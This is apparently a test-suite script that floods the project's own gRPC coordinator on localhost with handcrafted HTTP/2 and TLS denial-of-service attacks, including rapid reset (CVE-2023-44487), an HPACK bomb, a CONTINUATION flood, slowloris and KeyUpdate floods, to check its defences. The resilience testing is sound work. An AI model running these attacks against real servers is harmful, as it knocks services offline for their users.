"""An attacker that speaks HTTP/2 by hand (run as a script by the flood tests, not collected).

Connects to ``--port`` (with ``--certs DIR --name NAME``: over TLS with that federation
certificate, as an insider would) and, for ``--seconds``, does what ``--mode`` says on one or
a few connections, reconnecting whenever the coordinator cuts one:

- ``streams``: gRPC calls (HEADERS frames), keeping ``--inflight`` of them open per connection
  and opening a new one whenever one ends; never a hello
- ``reset``: a call and its cancel (HEADERS then RST_STREAM), over and over: "rapid reset",
  CVE-2023-44487
- ``control``: SETTINGS and PING frames, over and over, never reading the acknowledgements
  (``--read``: reading them, so the server never stops reading for want of room to write)
- ``halfopen``: ``--hold`` connections that each send HTTP/2's preface and SETTINGS, then
  stop sending (``--half-close``: and close their sending side) and never read
- ``window``, ``unknown``, ``empty``: frames the relay's meter does not count, over and over:
  WINDOW_UPDATE (increment 1), frames of an unknown type (which HTTP/2 says to ignore), and
  empty DATA frames on an open call
- ``continuation``: one call's HEADERS without END_HEADERS, then CONTINUATION frames of
  HPACK literals, never ending the header block
- ``records``: with ``--certs``, a frame of an unknown type whose payload goes one byte per
  TLS record, over and over: each record costs the server its work (a decryption, a pass of
  the relay) for one byte of the budget of decrypted bytes
- ``tlsempty``, ``keyupdate``: with ``--certs``, TLS 1.3 records sealed by hand
  (tls13craft.py) after HTTP/2's preface: empty application-data records (31 in a row,
  then one byte of an unknown frame's payload: OpenSSL itself ends 32 in a row), or
  KeyUpdate messages (a key derivation each for the server; OpenSSL 3.0 takes any
  number), over and over: both decrypt to nothing or next to nothing
- ``hpack``: calls whose header block adds one 4 KiB header to HPACK's dynamic table and then
  refers to it thousands of times (an HPACK bomb: 16 KiB on the wire, 64 MiB decoded)
- ``slowloris``: ``--hold`` connections that each send their first bytes (HTTP/2's preface,
  or with ``--certs`` a TLS ClientHello) one byte every ``--interval`` seconds
- ``handshake``: with ``--certs``, full TLS handshakes (with the certificate), closed at
  once, over and over: what they cost the coordinator's CPU

The frames are written with a few lines of code (a 9-byte header each; the call's headers
as literal HPACK fields), so no HTTP/2 library is needed. Prints its counts as JSON when it
stops: frames sent, connections opened, and how many the coordinator cut.

    python tests/deploy/h2attack.py --port P --mode reset --seconds 8
"""

from __future__ import annotations

import argparse
import contextlib
import json
import signal
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

from shoal.runtime.grpc.tlsend import TlsEnd

sys.path.insert(0, str(Path(__file__).resolve().parent))
from tls13craft import APPLICATION_DATA, Sealer, client_secret

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
CONTINUATION, UNKNOWN = 9, 0xFA
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
METHOD = b"/shoal.deploy.v1.Coordinator/Session"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman coding."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(authority: bytes, tls: bool) -> bytes:
    """The header block of a gRPC call to the coordinator's Session method."""
    return (
        b"\x83"  # :method POST (static table 3)
        + (b"\x87" if tls else b"\x86")  # :scheme https / http (7 / 6)
        + _literal(b":path", METHOD)
        + _literal(b":authority", authority)
        + _literal(b"content-type", b"application/grpc")
        + _literal(b"te", b"trailers")
    )


def frames(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return frame(kind, flags, stream, payload) + payload


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.deadline = time.monotonic() + args.seconds
        self.stopped: float | None = None
        self.lock = threading.Lock()
        self.counts = {"connections": 0, "cut": 0, "failed": 0, "headers": 0, "resets": 0,
                       "control": 0, "ended_by_server": 0, "stalled": 0, "frames": 0,
                       "bytes": 0, "handshakes": 0, "records": 0}  # fmt: skip
        self.context: ssl.SSLContext | None = None
        if args.certs:
            certs = Path(args.certs)
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.load_verify_locations(certs / "ca.pem")
            context.load_cert_chain(certs / f"{args.name}.pem", certs / f"{args.name}-key.pem")
            context.check_hostname = False
            context.set_alpn_protocols(["h2"])
            self.context = context
        self.block = call_headers(f"127.0.0.1:{args.port}".encode(), self.context is not None)

    def add(self, key: str, n: int = 1) -> None:
        with self.lock:
            self.counts[key] += n

    def connect(self, preface: bool = True) -> socket.socket | None:
        try:
            with self.lock:
                source = f"127.0.0.{2 + self.counts['connections'] % self.args.sources}"
            address = (source if self.args.sources > 1 else "127.0.0.1", 0)
            sock = socket.create_connection(
                ("127.0.0.1", self.args.port), timeout=5, source_address=address
            )
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if not preface:
                self.add("connections")
                return sock
            if self.context is not None and self.args.mode in _CRAFTED:
                return self.crafted(sock)
            if self.context is not None:
                sock = TlsPipe(sock, self.context)  # type: ignore[assignment]
            # Our SETTINGS (a large window, so the server may send) and a large connection
            # window; then the server's own SETTINGS are acknowledged by the reader.
            settings = struct.pack(">HI", 4, 1 << 30)
            window = 1 if self.args.mode == "window" else (1 << 31) - 1 - 65535
            sock.sendall(
                PREFACE
                + frames(SETTINGS, 0, 0, settings)
                + frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", window))
            )
            sock.settimeout(1.0)  # so a stalled send or read still sees the deadline
        except OSError:
            self.add("failed")
            time.sleep(0.05)
            return None
        self.add("connections")
        return sock

    def crafted(self, raw: socket.socket) -> socket.socket:
        """A TLS connection whose records this attacker seals itself (tls13craft.py): a
        context of its own per connection, so its key log holds this connection's secret."""
        with tempfile.TemporaryDirectory() as scratch:
            keylog = Path(scratch) / "keys"
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.load_verify_locations(Path(self.args.certs) / "ca.pem")
            name = self.args.name
            certs = Path(self.args.certs)
            context.load_cert_chain(certs / f"{name}.pem", certs / f"{name}-key.pem")
            context.check_hostname = False
            context.minimum_version = ssl.TLSVersion.TLSv1_3
            context.set_alpn_protocols(["h2"])
            context.keylog_filename = str(keylog)
            sock = SealedPipe(raw, context)
            suite = sock._tls.cipher()[0]  # type: ignore[index]
            sock.sealer = Sealer(suite, client_secret(keylog.read_text()), 0)
        settings = struct.pack(">HI", 4, 1 << 30)
        sock.sendall(PREFACE + frames(SETTINGS, 0, 0, settings))
        raw.settimeout(1.0)
        self.add("connections")
        return sock  # type: ignore[return-value]

    def read(self, sock: socket.socket, ended: threading.Semaphore | None) -> None:
        """Drain the server's frames; acknowledge its SETTINGS; count streams it ended."""
        buffer = b""
        try:
            while time.monotonic() < self.deadline:
                try:
                    data = sock.recv(1 << 16)
                except TimeoutError:
                    continue
                if not data:
                    break
                buffer += data
                replies = b""
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    buffer = buffer[9 + length :]
                    if kind == SETTINGS and not flags & ACK:
                        replies += frame(SETTINGS, ACK, 0)
                    elif kind == PING and not flags & ACK:
                        pass  # never acknowledged: the server's keepalive is not our concern
                    if (kind in (HEADERS, DATA) and flags & END_STREAM) or kind == RST_STREAM:
                        self.add("ended_by_server")
                        if ended is not None:
                            ended.release()
                if replies:
                    sock.sendall(replies)
        except OSError:
            pass

    def connection(self, worker: int) -> None:
        mode = self.args.mode
        while time.monotonic() < self.deadline:
            sock = self.connect()
            if sock is None:
                continue
            inflight = threading.Semaphore(self.args.inflight) if mode == "streams" else None
            reader = None
            if mode in _BLIND:
                self.blind(sock)
                continue
            if mode != "control" or self.args.read:
                reader = threading.Thread(target=self.read, args=(sock, inflight), daemon=True)
                reader.start()
            stream = 1
            try:
                while time.monotonic() < self.deadline:
                    batch = bytearray()
                    if mode == "control":
                        for i in range(200):
                            batch += frame(SETTINGS, 0, 0)
                            batch += frames(PING, 0, 0, struct.pack(">Q", i))
                        sock.sendall(batch)
                        self.add("control", 400)
                        continue
                    if reader is not None and not reader.is_alive():
                        self.add("cut")  # the server closed the connection
                        break
                    opened = 0
                    for _ in range(100):
                        if inflight is not None and not inflight.acquire(
                            timeout=0.5 if not opened else 0
                        ):
                            break
                        batch += frames(HEADERS, END_HEADERS, stream, self.block)
                        if mode == "reset":
                            batch += frames(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        stream += 2
                        opened += 1
                    if stream > (1 << 31) - 300:
                        break  # stream ids used up: a new connection
                    if batch:
                        sock.sendall(batch)
                        self.add("headers", opened)
                        if mode == "reset":
                            self.add("resets", opened)
            except TimeoutError:
                self.add("stalled")  # the server stopped reading this connection
            except OSError:
                if time.monotonic() < self.deadline:
                    self.add("cut")
            finally:
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
                sock.close()
                if reader is not None:
                    reader.join(timeout=5)

    def blind(self, sock: socket.socket) -> None:
        """Frames the meter does not count (or one endless header block), as fast as the
        connection takes them; a reader drains the answers."""
        mode = self.args.mode
        reader = threading.Thread(target=self.read, args=(sock, None), daemon=True)
        reader.start()
        first = b""
        if mode in ("empty", "continuation"):
            flags = 0 if mode == "continuation" else END_HEADERS
            first = frames(HEADERS, flags, 1, self.block)
        one = {
            "window": frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            "unknown": frames(UNKNOWN, 0, 0, b""),
            "empty": frames(DATA, 0, 1, b""),
            "continuation": frames(CONTINUATION, 0, 1, _literal(b"x-pad", b"p" * 100) * 100),
            "hpack": b"-",  # each batch is a new call's header block (below)
            "records": b"-",  # one frame, its payload a byte per record (below)
            "tlsempty": b"-",  # TLS records sealed by hand (below)
            "keyupdate": b"-",
        }[mode]
        batch = one * max(1, (1 << 16) // len(one))
        stream = 1
        try:
            sock.sendall(first)
            while time.monotonic() < self.deadline and reader.is_alive():
                if mode in _CRAFTED:
                    sealer = sock.sealer  # type: ignore[attr-defined]
                    with sock.sealing:  # type: ignore[attr-defined]
                        if mode == "tlsempty":
                            # 31 empty records, then one byte of an unknown frame's payload:
                            # OpenSSL ends a connection at 32 empty records in a row.
                            header = frame(UNKNOWN, 0, 0, b"r" * 8)
                            crafted = sealer.record(APPLICATION_DATA, header)
                            for _ in range(8):
                                crafted += b"".join(sealer.empty() for _ in range(31))
                                crafted += sealer.record(APPLICATION_DATA, b"r")
                        else:
                            crafted = b"".join(sealer.key_update() for _ in range(256))
                        sock.raw.sendall(crafted)  # type: ignore[attr-defined]
                    self.add("records", 257 if mode == "tlsempty" else 256)
                    self.add("bytes", len(crafted))
                    continue
                if mode == "records":
                    assert isinstance(sock, TlsPipe), "records needs --certs"
                    payload = b"r" * 4096
                    sock.sendall(frame(UNKNOWN, 0, 0, payload))
                    sent = sock.send_records(payload, 1)
                    self.add("frames")
                    self.add("records", len(payload))
                    self.add("bytes", sent)
                    continue
                if mode == "hpack":
                    batch = frames(HEADERS, END_HEADERS, stream, _hpack_bomb(self.block))
                    stream += 2
                sock.sendall(batch)
                self.add("frames", 1 if mode == "hpack" else len(batch) // len(one))
                self.add("bytes", len(batch))
            if not reader.is_alive():
                self.add("cut")
        except TimeoutError:
            self.add("stalled")
        except OSError:
            if time.monotonic() < self.deadline:
                self.add("cut")
        finally:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()
            reader.join(timeout=5)

    def slowloris(self) -> None:
        """``--hold`` connections, each sending its first bytes one at a time."""
        first = PREFACE + frames(SETTINGS, 0, 0, b"")
        if self.context is not None:
            first = _client_hello(self.context)
        held: dict[socket.socket, int] = {}
        while time.monotonic() < self.deadline:
            for sock in [s for s in held if not _alive(s)]:
                del held[sock]
                sock.close()
                self.add("cut")
            while len(held) < self.args.hold and time.monotonic() < self.deadline:
                sock = self.connect(preface=False)
                if sock is None:
                    break
                held[sock] = 0
            for sock, at in list(held.items()):
                if at < len(first):
                    with contextlib.suppress(OSError):
                        sock.send(first[at : at + 1])
                        self.add("bytes")
                    held[sock] = at + 1
            time.sleep(self.args.interval)
        for sock in held:
            sock.close()

    def handshakes(self, worker: int) -> None:
        """Full TLS handshakes, each closed at once."""
        assert self.context is not None, "handshake needs --certs"
        while time.monotonic() < self.deadline:
            sock = self.connect(preface=False)
            if sock is None:
                continue
            try:
                with self.context.wrap_socket(sock, server_hostname="localhost"):
                    self.add("handshakes")
            except OSError:
                self.add("cut")
                sock.close()

    def half_open(self) -> None:
        held: list[socket.socket] = []
        try:
            while time.monotonic() < self.deadline:
                held = [s for s in held if _alive(s)]
                while len(held) < self.args.hold and time.monotonic() < self.deadline:
                    sock = self.connect()
                    if sock is None:
                        break
                    if self.args.half_close:
                        with contextlib.suppress(OSError):
                            sock.shutdown(socket.SHUT_WR)
                    held.append(sock)
                time.sleep(0.05)
        finally:
            for sock in held:
                sock.close()

    def run(self) -> dict[str, int]:
        if self.args.mode == "halfopen":
            self.half_open()
        elif self.args.mode == "slowloris":
            self.slowloris()
        else:
            target = self.handshakes if self.args.mode == "handshake" else self.connection
            workers = [
                threading.Thread(target=target, args=(i,), daemon=True)
                for i in range(self.args.connections)
            ]
            for w in workers:
                w.start()
            # Workers end at the deadline; once stopped (SIGTERM), they get 5 s to count
            # what they saw, then the counts are printed whatever a worker still waits on
            # (a TLS worker once held the attacker past the test's 30 s wait).
            end = self.deadline + 15
            while any(w.is_alive() for w in workers):
                limit = end if self.stopped is None else self.stopped + 5
                if time.monotonic() > limit:
                    break
                time.sleep(0.05)
        return self.counts

    def stop(self) -> None:
        """SIGTERM: every loop ends at its next check of the deadline."""
        self.stopped = time.monotonic()
        self.deadline = 0.0


_CRAFTED = ("tlsempty", "keyupdate")
_BLIND = ("window", "unknown", "empty", "continuation", "hpack", "records", *_CRAFTED)


def _hpack_bomb(block: bytes) -> bytes:
    """A call's header block that inserts a 4 KiB header into HPACK's dynamic table (literal
    with incremental indexing, new name) and then refers to it (dynamic index 62) 12,000
    times: under 16 KiB on the wire, about 48 MiB of headers once decoded."""
    value = b"v" * 4000
    # A 4,000-byte value needs HPACK's multi-byte integer (7-bit prefix): 127, then 3873.
    size = bytes([0x7F]) + bytes([(3873 & 0x7F) | 0x80, 3873 >> 7])
    insert = b"\x40" + bytes([6]) + b"x-bomb" + size + value
    return block + insert + b"\xbe" * 12_000


class TlsPipe(TlsEnd):
    """A client's TLS that one thread may read while another writes (shoal's own TlsEnd: an
    ``SSLSocket`` used so crashed this attacker with "malloc(): unsorted double linked list
    corrupted"), with the few socket methods the attack calls."""

    def __init__(self, raw: socket.socket, context: ssl.SSLContext) -> None:
        super().__init__(raw, context, server_side=False, server_hostname="localhost")
        self.handshake(b"", time.monotonic() + 5)

    def send_records(self, data: bytes, size: int) -> int:
        """``data`` in TLS records of ``size`` bytes each; the bytes that went on the wire."""
        with self._sending:
            with self._lock:
                for at in range(0, len(data), size):
                    self._tls.write(data[at : at + size])
                records = self._out.read()
            self.raw.sendall(records)
        return len(records)

    def recv(self, size: int) -> bytes:
        buffer = bytearray(size)
        return bytes(buffer[: self.recv_into(buffer)])

    def setblocking(self, flag: bool) -> None:
        self.raw.setblocking(flag)

    def close(self) -> None:
        self.raw.close()


class SealedPipe(TlsPipe):
    """A TlsPipe whose records this attacker seals itself (``sealer``), every one of them
    (the reader's acknowledgements too: records must go out in their sequence's order)."""

    sealer: Sealer

    def __init__(self, raw: socket.socket, context: ssl.SSLContext) -> None:
        super().__init__(raw, context)
        self.sealing = threading.Lock()

    def sendall(self, data: bytes | bytearray | memoryview) -> None:
        with self.sealing:
            self.raw.sendall(self.sealer.record(APPLICATION_DATA, bytes(data)))


def _client_hello(context: ssl.SSLContext) -> bytes:
    """The first flight of a TLS handshake with ``context`` (its ClientHello records)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def _alive(sock: socket.socket) -> bool:
    """Whether the server still holds ``sock`` open (what it sent is read and dropped)."""
    try:
        sock.setblocking(False)
        while True:
            if sock.recv(1 << 16) == b"":
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        with contextlib.suppress(OSError):
            sock.settimeout(1.0)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mode", choices=("streams", "reset", "control", "halfopen", *_BLIND,
                                           "slowloris", "handshake"),
                        required=True)  # fmt: skip
    parser.add_argument("--interval", type=float, default=1.0, help="slowloris: per byte")
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--inflight", type=int, default=100)
    parser.add_argument("--hold", type=int, default=300)
    parser.add_argument("--half-close", action="store_true")
    parser.add_argument("--sources", type=int, default=1, help="from 127.0.0.2, .3, ...")
    parser.add_argument("--read", action="store_true", help="control: read what comes back")
    parser.add_argument("--certs", help="a federation's certificate directory: attack over TLS")
    parser.add_argument("--name", default="rogue", help="whose certificate in --certs")
    args = parser.parse_args()
    attack = Attack(args)
    signal.signal(signal.SIGTERM, lambda *_: attack.stop())
    counts = attack.run()
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    main()
